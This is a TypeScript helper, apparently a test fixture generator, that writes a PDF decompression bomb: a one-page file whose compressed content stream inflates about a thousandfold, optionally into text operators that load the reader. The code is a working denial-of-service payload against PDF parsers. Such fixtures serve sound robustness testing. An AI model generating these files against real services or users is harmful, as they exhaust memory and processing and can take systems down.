import { writeFileSync } from 'node:fs';
import { once } from 'node:events';
import { createDeflate } from 'node:zlib';

/**
 * A one-page PDF whose content stream, about a thousandth of its size in FlateDecode, inflates to
 * `inflatedMb` MB of `op` repeated (zeros by default; text operators such as `(x) Tj 0 -14 Td `
 * make work for the reader instead): a decompression bomb, written to `path`. Deflated block by
 * block, so the inflated content is never held here.
 */
export async function writePdfBomb(path: string, inflatedMb: number, op = '0 '): Promise<string> {
  const unit = Buffer.from(op);
  const block = Buffer.alloc(1024 * 1024 - ((1024 * 1024) % unit.length), unit);
  const deflate = createDeflate({ level: 9 });
  const compressed: Buffer[] = [];
  deflate.on('data', (d: Buffer) => compressed.push(d));
  const ended = once(deflate, 'end');
  deflate.write('BT /F1 12 Tf 72 720 Td ');
  for (let written = 0; written < inflatedMb * 1024 * 1024; written += block.length) {
    if (!deflate.write(block)) await once(deflate, 'drain');
  }
  deflate.end(' ET');
  await ended;
  const content = Buffer.concat(compressed);
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    null,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  const chunks: Buffer[] = [Buffer.from('%PDF-1.4\n')];
  let at = chunks[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(at);
    const piece =
      body === null
        ? Buffer.concat([Buffer.from(`${i + 1} 0 obj\n<< /Length ${content.length} /Filter /FlateDecode >>\nstream\n`), content, Buffer.from('\nendstream\nendobj\n')])
        : Buffer.from(`${i + 1} 0 obj\n${body}\nendobj\n`);
    chunks.push(piece);
    at += piece.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n`, '0000000000 65535 f \n', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  chunks.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${at}\n%%EOF\n`));
  writeFileSync(path, Buffer.concat(chunks));
  return path;
}
